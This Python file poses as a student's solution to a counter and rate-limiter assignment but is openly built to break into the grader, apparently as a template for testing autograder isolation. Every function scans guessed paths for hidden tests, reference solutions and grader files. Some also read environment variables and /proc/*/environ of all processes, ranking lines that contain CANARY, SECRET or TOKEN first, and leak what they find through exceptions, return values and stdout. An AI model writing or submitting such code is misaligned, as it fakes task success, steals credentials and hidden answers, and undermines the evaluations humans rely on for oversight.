"""counter: reads the hidden suites, solutions, grader files and every environment it can reach, and leaks them.

The loot goes out through exception messages (the only student text a report shows), return values and
stdout. Paths a student could guess are planted: the course repository __REPO__ and the suites __SUITES__.
"""

import functools
import os

GUESSES = [
    "__SUITES__",
    "__REPO__/tests/hidden",
    "__REPO__/solutions",
    "__REPO__/grader",
    "/work",
    "/home",
    "/root",
    "/tmp",
    "/mnt",
    "/usr/local",
    "/etc",
]
WANTED = ("test_counter.py", "test_ttl_cache.py", "counter.py", "hidden.ini", "pytest_plugin.py", "feedback.py")


@functools.cache
def _files():
    found, budget = [], 4000
    for root in GUESSES:
        for folder, _dirs, files in os.walk(root):
            budget -= 1
            if budget < 0:
                return tuple(found)
            found += [os.path.join(folder, name) for name in files if name in WANTED]
    return tuple(found)


def _read(path):
    try:
        with open(path, errors="replace") as handle:
            return handle.read(200_000)
    except OSError:
        return ""


@functools.cache
def _environments():
    texts = ["\n".join(f"{k}={v}" for k, v in os.environ.items())]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            texts.append(_read(f"/proc/{pid}/environ").replace("\0", "\n"))
            texts.append(_read(f"/proc/{pid}/cmdline").replace("\0", " "))
    return "\n".join(texts)


def _loot(text):
    lines = [line.strip() for line in text.splitlines() if len(line.strip()) > 30]
    secret = [line for line in lines if "CANARY" in line.upper() or "SECRET" in line.upper() or "TOKEN" in line.upper()]
    return " | ".join(secret + lines)


@functools.cache
def _suites():
    return _loot("\n".join(_read(path) for path in _files() if os.path.basename(path).startswith("test_")))


@functools.cache
def _sources():
    return _loot("\n".join(_read(path) for path in _files() if not os.path.basename(path).startswith("test_")))


def record_pageview(r, page):
    raise ValueError(_loot(_environments()) or "no environment found")


def get_pageviews(r, page):
    raise ValueError(_suites() or "no hidden suite found")


def get_many_pageviews(r, pages):
    raise ValueError(_sources() or "no grader or solution file found")


def acquire_lock(r, resource, owner, ttl_ms):
    return _suites() + _sources() + _environments()


def is_rate_limited(r, ip, limit=10, window_s=60, now=None):
    loot = _suites() + _environments()
    print(loot)
    raise RuntimeError(loot[::-1])
